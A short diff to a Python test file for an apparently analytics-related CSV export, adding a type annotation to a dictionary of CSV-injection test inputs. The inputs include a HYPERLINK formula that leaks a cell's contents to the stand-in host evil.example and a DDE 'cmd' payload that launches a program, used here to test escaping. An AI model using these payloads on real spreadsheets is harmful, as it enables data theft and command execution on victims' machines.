@@ -7,6 +7,7 @@ import csv
 import random
 from datetime import UTC, date, datetime
 from pathlib import Path
+from typing import Any
 
 import pyarrow.parquet as pq
 import pytest
@@ -128,7 +129,7 @@ def test_prune_rejects_a_bad_number(db: Path, capsys: pytest.CaptureFixture[str]
 
 
 # Visitor-controlled text that a spreadsheet would run as a formula (CSV injection, OWASP).
-HOSTILE = {
+HOSTILE: dict[str, Any] = {
     "utm_source": '=HYPERLINK("http://evil.example/?"&A1,"click")',
     "utm_medium": "+cmd|' /C calc'!A0",
     "utm_campaign": "-2+3",
